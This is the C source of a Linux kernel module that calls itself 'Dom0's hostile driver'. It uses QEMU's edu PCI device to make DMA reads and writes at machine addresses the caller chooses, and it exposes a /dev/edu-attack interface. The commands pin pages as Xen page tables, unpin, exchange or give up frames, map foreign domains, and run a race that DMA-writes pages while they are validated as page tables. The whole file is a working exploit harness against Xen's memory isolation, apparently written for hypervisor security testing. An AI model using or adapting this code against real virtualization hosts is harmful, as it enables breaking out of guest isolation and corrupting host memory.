// SPDX-License-Identifier: GPL-2.0
/*
 * Dom0's hostile driver: makes QEMU's edu device read and write machine
 * addresses of the caller's choice, and turns pages of its own into page
 * tables, back into data, or gives them up. /dev/edu-attack takes one command
 * per write and answers the next reads with one line, "ok ..." or "err ...".
 *
 * Numbers are hexadecimal. Test code: it trusts its caller.
 * Lock: mutex `busy` is held over each command.
 * Manual: QEMU, docs/specs/edu.txt; the public headers of Xen's ABI.
 */
#include <linux/delay.h>
#include <linux/fs.h>
#include <linux/gfp.h>
#include <linux/io.h>
#include <linux/ktime.h>
#include <linux/miscdevice.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/mutex.h>
#include <linux/pci.h>
#include <linux/pgtable.h>
#include <linux/sched.h>
#include <linux/slab.h>
#include <linux/uaccess.h>

#include <xen/interface/xen.h>
#include <xen/mem-reservation.h>
#include <xen/xen.h>

#include <asm/xen/hypercall.h>
#include <asm/xen/hypervisor.h>
#include <asm/xen/page.h>

#include "attack.h"

#define EDU_SRC     0x80
#define EDU_DST     0x88
#define EDU_COUNT   0x90
#define EDU_CMD     0x98
#define CMD_START   1 /* reads as "not done yet" */
#define CMD_TO_RAM  2
#define EDU_BUFFER  0x40000ul
#define EDU_MAX_LEN 4095u /* a whole buffer makes QEMU abort */
#define RACE_LEN    256u  /* QEMU refuses 4 bytes at a time, holding its lock */
#define RACE_LANDED 8u    /* shots that must land before a race may end early */
#define RACE_MAX_MS 30000u

#define MAX_EDUS  8
#define MAX_SLOTS 32

/* Bit 0 clear in every byte order: read as page table entries, not present. */
#define HAMMER      0x5ca1ab1e5ca1ab1eull
/* What is in a device's buffer before it reads, and in a page before it is
 * written. */
#define MARK_DEVICE 0xdeadd0d0deadd0d0ull
#define MARK_PAGE   0x0bad0bad0bad0badull

struct edu {
    struct pci_dev *pdev;
    void __iomem *regs;
    uint64_t held; /* what its buffer is full of; 0: something else */
};

static DEFINE_MUTEX(busy);
static struct edu edus[MAX_EDUS];
static unsigned int nr_edus;
static struct {
    struct page *page;
    unsigned int order;
} slots[MAX_SLOTS];
static uint64_t *scratch; /* a page on both ends of what the CPU sees */
static uint64_t *marks;   /* a page full of MARK_DEVICE */
static void *window;      /* a page that may be mapped over */
static char answer[256];
static size_t answer_len, answer_pos;

/* ---- the device ---------------------------------------------------------- */

static bool edu_idle(const struct edu *e)
{
    return !(readq(e->regs + EDU_CMD) & CMD_START);
}

static void edu_start(struct edu *e, bool to_ram, uint64_t ma, uint32_t len)
{
    /* The hypervisor may have silenced the device for its last attempt. */
    pci_set_master(e->pdev);
    writeq(to_ram ? EDU_BUFFER : ma, e->regs + EDU_SRC);
    writeq(to_ram ? ma : EDU_BUFFER, e->regs + EDU_DST);
    writeq(len, e->regs + EDU_COUNT);
    writeq(CMD_START | (to_ram ? CMD_TO_RAM : 0), e->regs + EDU_CMD);
}

static int edu_wait(struct edu *e)
{
    unsigned int ms;

    for (ms = 0; ms < 5000; ms += 4) {
        if (edu_idle(e))
            return 0;
        usleep_range(3000, 4000);
    }
    return -ETIMEDOUT;
}

static int edu_move(struct edu *e, bool to_ram, uint64_t ma, uint32_t len)
{
    edu_start(e, to_ram, ma, len);
    return edu_wait(e);
}

static uint64_t ma_of(void *va)
{
    return virt_to_machine(va).maddr;
}

static void page_fill(uint64_t *p, uint64_t value)
{
    unsigned int i;

    for (i = 0; i < PAGE_SIZE / sizeof(*p); i++)
        WRITE_ONCE(p[i], value);
}

/* Fill a device's buffer, unless it is full of this already. */
static int edu_hold(struct edu *e, uint64_t value)
{
    int rc = edu_wait(e);

    if (rc || e->held == value)
        return rc;
    page_fill(scratch, value);
    rc = edu_move(e, false, ma_of(scratch), EDU_MAX_LEN);
    e->held = rc ? 0 : value;
    return rc;
}

/* The same with MARK_DEVICE, without waiting for it. */
static void edu_mark(struct edu *e)
{
    edu_start(e, false, ma_of(marks), EDU_MAX_LEN);
    e->held = MARK_DEVICE;
}

/*
 * len bytes at a machine address into a device and from there into the
 * scratch page. Three values tell what went wrong: what was in the device
 * before, what was in the page before, and what came. A transfer takes a tenth
 * of a second, so readers take turns, and one is prepared meanwhile.
 */
static int attack_read(uint64_t ma, uint32_t len)
{
    static unsigned int turn;
    struct edu *const e = &edus[nr_edus > 1 ? turn++ % (nr_edus - 1) : 0];
    int rc = edu_hold(e, MARK_DEVICE);

    e->held = 0;
    if (!rc)
        rc = edu_move(e, false, ma, len);
    page_fill(scratch, MARK_PAGE);
    if (!rc)
        rc = edu_move(e, true, ma_of(scratch), len);
    if (!rc && scratch[0] == MARK_PAGE)
        rc = -EIO; /* the device cannot even reach our page */
    if (!rc)
        edu_mark(e);
    return rc;
}

/* The last device writes: it goes on holding what it wrote. */
static int attack_write(uint64_t ma, uint32_t len, uint64_t value)
{
    struct edu *const e = &edus[nr_edus - 1];
    const int rc = edu_hold(e, value);

    return rc ? rc : edu_move(e, true, ma, len);
}

/* ---- pages and their types ----------------------------------------------- */

static void *slot_va(uint64_t slot, uint64_t byte)
{
    if (slot >= MAX_SLOTS || !slots[slot].page ||
        byte >= PAGE_SIZE << slots[slot].order)
        return NULL;
    return (char *)page_address(slots[slot].page) + byte;
}

static int slot_alloc(uint64_t order, uint64_t *slot)
{
    struct page *p;

    for (*slot = 0; *slot < MAX_SLOTS && slots[*slot].page; ++*slot)
        ;
    if (*slot == MAX_SLOTS || order >= MAX_ORDER)
        return -ENOSPC;
    p = alloc_pages(GFP_KERNEL | __GFP_ZERO | __GFP_NOWARN, order);
    if (!p)
        return -ENOMEM;
    slots[*slot].page = p;
    slots[*slot].order = order;
    return 0;
}

static int remap(void *va, pgprot_t prot)
{
    return HYPERVISOR_update_va_mapping((unsigned long)va,
                                        mfn_pte(virt_to_mfn(va), prot),
                                        UVMF_TLB_FLUSH | UVMF_ALL);
}

static int mmuext(unsigned int cmd, unsigned long mfn)
{
    struct mmuext_op op = { .cmd = cmd };

    op.arg1.mfn = mfn;
    return HYPERVISOR_mmuext_op(&op, 1, NULL, DOMID_SELF);
}

/* A page of ours becomes a pinned table of level 1 to 4 ... */
static int page_pin(void *va, unsigned int level)
{
    int rc = remap(va, PAGE_KERNEL_RO);

    return rc ? rc : mmuext(MMUEXT_PIN_L1_TABLE + level - 1, virt_to_mfn(va));
}

/* ... and data again. */
static int page_unpin(void *va)
{
    int rc = mmuext(MMUEXT_UNPIN_TABLE, virt_to_mfn(va));

    return rc ? rc : remap(va, PAGE_KERNEL);
}

static int page_out(void *va, uint64_t *ma)
{
    struct page *p = virt_to_page(va);
    xen_pfn_t frame = virt_to_mfn(va);

    *ma = ma_of(va);
    xenmem_reservation_va_mapping_reset(1, &p);
    return xenmem_reservation_decrease(1, &frame) == 1 ? 0 : -EBUSY;
}

static int page_in(void *va)
{
    struct page *p = virt_to_page(va);
    xen_pfn_t frame = page_to_pfn(p);

    if (xenmem_reservation_increase(1, &frame) != 1)
        return -ENOMEM;
    xenmem_reservation_va_mapping_update(1, &p, &frame);
    return 0;
}

/* The page's frame for another one, in one hypercall. */
static int page_swap(void *va, uint64_t *ma)
{
    struct page *p = virt_to_page(va);
    uint64_t mfn = virt_to_mfn(va);
    xen_pfn_t frame;
    int rc;

    *ma = ma_of(va);
    xenmem_reservation_va_mapping_reset(1, &p);
    rc = frame_exchange(&mfn, page_to_pfn(p));
    frame = mfn;
    xenmem_reservation_va_mapping_update(1, &p, &frame);
    return rc;
}

/* ---- tables in use ------------------------------------------------------- */

/* The table of a level (1 to 4) that translates va for the caller. */
static uint64_t *live_table(unsigned long va, unsigned int level)
{
    pgd_t *pgd = pgd_offset(current->mm, va);
    p4d_t *p4d = p4d_offset(pgd, va);
    pud_t *pud;
    pmd_t *pmd;

    if (level == 4)
        return (uint64_t *)current->mm->pgd;
    if (p4d_none(*p4d))
        return NULL;
    pud = pud_offset(p4d, va);
    if (level == 3)
        return (uint64_t *)((unsigned long)pud & PAGE_MASK);
    if (pud_none(*pud) || pud_leaf(*pud))
        return NULL;
    pmd = pmd_offset(pud, va);
    if (level == 2)
        return (uint64_t *)((unsigned long)pmd & PAGE_MASK);
    if (pmd_none(*pmd) || pmd_leaf(*pmd))
        return NULL;
    return (uint64_t *)((unsigned long)pte_offset_kernel(pmd, va) & PAGE_MASK);
}

/* An entry nobody uses, for writes that may succeed; the last without one. */
static unsigned int spare_entry(const uint64_t *table, unsigned int level)
{
    unsigned int i;

    for (i = PTRS_PER_PTE; i-- > 0;) {
        if (level == 4 && i >= 256 && i < 272)
            continue; /* the hypervisor's */
        if (!READ_ONCE(table[i]))
            return i;
    }
    return PTRS_PER_PTE - 1;
}

/* One that is in use, so that reading it tells something. */
static unsigned int used_entry(const uint64_t *table)
{
    unsigned int i;

    for (i = 0; i < PTRS_PER_PTE - 1 && !READ_ONCE(table[i]); i++)
        ;
    return i;
}

static bool is_read_only(void *va)
{
    unsigned int level;
    pte_t *pte = lookup_address((unsigned long)va, &level);

    return pte && level == PG_LEVEL_4K && !(pte_val(*pte) & _PAGE_RW);
}

/* Frames on both sides of a machine address that are data pages of ours. */
static bool ours(uint64_t mfn)
{
    const unsigned long pfn = mfn_to_pfn(mfn);

    return pfn_valid(pfn) && pfn_to_mfn(pfn) == mfn &&
           !is_read_only(__va(PFN_PHYS(pfn)));
}

/* A border between two leaves of 1 GiB, were they as large as can be. */
static uint64_t gig_border(void)
{
    uint64_t mfn;

    for (mfn = 1ul << 18; mfn < 1ul << 24; mfn += 1ul << 18) {
        if (ours(mfn - 1) && ours(mfn))
            return PFN_PHYS(mfn);
    }
    return 0;
}

/* ---- for domain.c -------------------------------------------------------- */

long attack_hypercall(unsigned int nr, unsigned long a1, unsigned long a2,
                      unsigned long a3, unsigned long a4)
{
    return privcmd_call(nr, a1, a2, a3, a4, 0);
}

uint64_t attack_pte_of(void *va)
{
    unsigned int level;
    pte_t *const pte = lookup_address((unsigned long)va, &level);

    return pte && level == PG_LEVEL_4K ? ma_of(pte) : 0;
}

void *attack_window(void)
{
    return window;
}

int attack_window_restore(void)
{
    return remap(window, PAGE_KERNEL);
}

/* ---- the race ------------------------------------------------------------ */

/*
 * Every device writes the page again and again, while it becomes a table and
 * data by turns. Once the pinning hypercall is back the contents must stay. A
 * device takes a tenth of a second for a shot, so on a fast machine the rounds
 * may be over before any lands: more of them then, for a while.
 */
static int race(void *va, unsigned int level, uint64_t rounds, char *out,
                size_t size)
{
    uint64_t *const before = kmalloc(PAGE_SIZE, GFP_KERNEL);
    const ktime_t end = ktime_add_ms(ktime_get(), RACE_MAX_MS);
    uint64_t done, shots = 0, landed = 0, bad = 0;
    unsigned int i;
    int rc = before ? 0 : -ENOMEM;

    for (i = 0; i < nr_edus && !rc; i++)
        rc = edu_hold(&edus[i], HAMMER);

    for (done = 0; !rc && (done < rounds || (landed < RACE_LANDED &&
                                             ktime_before(ktime_get(), end)));
         done++) {
        /* Not just "not zero": a table of level 4 holds more than ours. */
        if (*(uint64_t *)va == HAMMER)
            landed++;
        memset(va, 0, PAGE_SIZE);
        for (i = 0; i < nr_edus; i++) {
            /* Not all at once: each lands at a time of its own. */
            if (edu_idle(&edus[i]) && done % nr_edus == i) {
                edu_start(&edus[i], true, ma_of(va), RACE_LEN);
                shots++;
            }
        }
        udelay(20);
        rc = page_pin(va, level);
        if (rc)
            break;
        memcpy(before, va, PAGE_SIZE);
        udelay(100);
        if (memcmp(before, va, PAGE_SIZE))
            bad++;
        rc = page_unpin(va);
        if (done % 64 == 0)
            cond_resched();
    }
    for (i = 0; i < nr_edus; i++)
        edu_wait(&edus[i]);
    kfree(before);
    snprintf(out, size, "%llu %llu %llu %llu", done, shots, landed, bad);
    return rc;
}

/* ---- commands ------------------------------------------------------------ */

static int run(char *line, char *out, size_t size)
{
    static uint64_t foreign; /* the frame of the other domain */
    uint64_t a = 0, b = 0, c = 0, d = 0;
    char cmd[16] = "";
    const int n = sscanf(line, "%15s %llx %llx %llx %llx", cmd, &a, &b, &c, &d);
    void *const va = slot_va(a, b);
    int rc = 0;

    if (n < 1)
        return -EINVAL;
    if (!nr_edus &&
        (!strcmp(cmd, "read") || !strcmp(cmd, "write") || !strcmp(cmd, "race")))
        return -ENODEV;
    if (!strcmp(cmd, "alloc")) { /* order -> slot, machine address */
        uint64_t slot;

        rc = slot_alloc(a, &slot);
        if (!rc)
            snprintf(out, size, "%llx %llx", slot, ma_of(slot_va(slot, 0)));
    } else if (!strcmp(cmd, "read")) { /* address, length */
        if (b < 8 || b > EDU_MAX_LEN)
            return -EINVAL;
        rc = attack_read(a, b);
        snprintf(out, size, "%016llx %016llx", scratch[0],
                 *(uint64_t *)((char *)scratch + b - 8));
    } else if (!strcmp(cmd, "write")) { /* address, length, value */
        if (b < 4 || b > EDU_MAX_LEN)
            return -EINVAL;
        rc = attack_write(a, b, c);
    } else if (!strcmp(cmd, "live")) { /* what, level -> used, spare, empty */
        const unsigned long at = a == 0   ? current->mm->start_code
                                 : a == 1 ? (unsigned long)run
                                          : (unsigned long)scratch;
        uint64_t *table;

        if (b < 1 || b > 4)
            return -EINVAL;
        table = live_table(at, b);
        if (!table)
            return -ENOENT;
        snprintf(out, size, "%llx %llx %d", ma_of(table + used_entry(table)),
                 ma_of(table + spare_entry(table, b)),
                 !table[spare_entry(table, b)]);
    } else if (!strcmp(cmd, "initial")) { /* -> address, is a table, va */
        uint64_t i = xen_start_info->nr_pt_frames;
        char *const base = __va(__pa(xen_start_info->pt_base));

        while (i > 1 && !is_read_only(base + (i - 1) * PAGE_SIZE))
            i--;
        snprintf(out, size, "%llx %d %llx", ma_of(base + (i - 1) * PAGE_SIZE),
                 is_read_only(base + (i - 1) * PAGE_SIZE), i - 1);
    } else if (!strcmp(cmd, "gig")) { /* -> address */
        snprintf(out, size, "%llx", gig_border());
    } else if (!strcmp(cmd, "domain")) { /* -> address of its page */
        rc = domain_create(&foreign);
        snprintf(out, size, "%llx", foreign << PAGE_SHIFT);
    } else if (!strcmp(cmd, "kill")) {
        rc = domain_kill();
    } else if (!va) { /* the rest: slot, byte, ... */
        return -EINVAL;
    } else if (!strcmp(cmd, "maddr")) {
        snprintf(out, size, "%llx", ma_of(va));
    } else if (!strcmp(cmd, "get")) {
        snprintf(out, size, "%016llx", READ_ONCE(*(uint64_t *)va));
    } else if (!strcmp(cmd, "put")) {
        WRITE_ONCE(*(uint64_t *)va, c);
    } else if (!strcmp(cmd, "pin")) { /* level */
        memset(va, 0, PAGE_SIZE);
        *(uint64_t *)va = HAMMER; /* entries not present */
        rc = page_pin(va, c);
    } else if (!strcmp(cmd, "unpin")) {
        rc = page_unpin(va);
    } else if (!strcmp(cmd, "out")) {
        rc = page_out(va, &d);
        snprintf(out, size, "%llx", d);
    } else if (!strcmp(cmd, "exchange")) { /* -> the old address */
        rc = page_swap(va, &d);
        snprintf(out, size, "%llx", d);
    } else if (!strcmp(cmd, "in")) {
        rc = page_in(va);
        snprintf(out, size, "%llx", ma_of(va));
    } else if (!strcmp(cmd, "grant")) { /* read-only */
        rc = domain_grant_map(va, c);
    } else if (!strcmp(cmd, "revoke")) {
        rc = domain_grant_unmap(va);
        rc = rc ? rc : remap(va, PAGE_KERNEL);
    } else if (!strcmp(cmd, "foreign")) {
        rc = domain_foreign_map(attack_pte_of(va), foreign);
    } else if (!strcmp(cmd, "own")) {
        rc = remap(va, PAGE_KERNEL);
    } else if (!strcmp(cmd, "race")) { /* level, rounds */
        rc = race(va, c, d, out, size);
    } else {
        rc = -ENOSYS;
    }
    return rc;
}

static ssize_t attack_command(struct file *f, const char __user *buf,
                              size_t len, loff_t *pos)
{
    char line[128] = "", out[200] = "";
    int rc;

    if (len >= sizeof(line))
        return -E2BIG;
    if (copy_from_user(line, buf, len))
        return -EFAULT;
    mutex_lock(&busy);
    rc = run(line, out, sizeof(out));
    answer_len = rc ? scnprintf(answer, sizeof(answer), "err %d %s\n", rc, out)
                    : scnprintf(answer, sizeof(answer), "ok %s\n", out);
    answer_pos = 0;
    mutex_unlock(&busy);
    return len;
}

static ssize_t attack_answer(struct file *f, char __user *buf, size_t len,
                             loff_t *pos)
{
    size_t n;

    mutex_lock(&busy);
    n = min(len, answer_len - answer_pos);
    if (copy_to_user(buf, answer + answer_pos, n)) {
        mutex_unlock(&busy);
        return -EFAULT;
    }
    answer_pos += n;
    mutex_unlock(&busy);
    return n;
}

static const struct file_operations attack_fops = {
    .owner = THIS_MODULE,
    .read = attack_answer,
    .write = attack_command,
};

static struct miscdevice attack_dev = {
    .minor = MISC_DYNAMIC_MINOR,
    .name = "edu-attack",
    .fops = &attack_fops,
};

static int edu_probe(struct pci_dev *pdev, const struct pci_device_id *id)
{
    struct edu *const e = &edus[nr_edus];
    int rc;

    if (nr_edus == MAX_EDUS)
        return -ENOSPC;
    rc = pcim_enable_device(pdev);
    if (!rc)
        rc = pcim_iomap_regions(pdev, 1, "edu-attack");
    if (rc)
        return rc;
    e->regs = pcim_iomap_table(pdev)[0];
    e->pdev = pdev;
    nr_edus++;
    return 0;
}

static const struct pci_device_id edu_ids[] = { { PCI_DEVICE(0x1234, 0x11e8) },
                                                { 0 } };
MODULE_DEVICE_TABLE(pci, edu_ids);

static struct pci_driver edu_driver = {
    .name = "edu-attack",
    .id_table = edu_ids,
    .probe = edu_probe,
};

static int __init attack_init(void)
{
    int rc;

    if (!xen_pv_domain())
        return -ENODEV;
    scratch = (uint64_t *)get_zeroed_page(GFP_KERNEL);
    marks = (uint64_t *)get_zeroed_page(GFP_KERNEL);
    window = (void *)get_zeroed_page(GFP_KERNEL);
    if (!scratch || !marks || !window) {
        rc = -ENOMEM;
        goto err;
    }
    page_fill(marks, MARK_DEVICE);
    rc = pci_register_driver(&edu_driver);
    if (!rc) {
        rc = misc_register(&attack_dev);
        if (rc)
            pci_unregister_driver(&edu_driver);
    }
    if (!rc)
        return 0;
err:
    free_page((unsigned long)window);
    free_page((unsigned long)marks);
    free_page((unsigned long)scratch);
    return rc;
}
module_init(attack_init); /* no exit: pages may have been given away */

MODULE_DESCRIPTION("DMA to chosen machine addresses by QEMU's edu device");
MODULE_LICENSE("GPL");
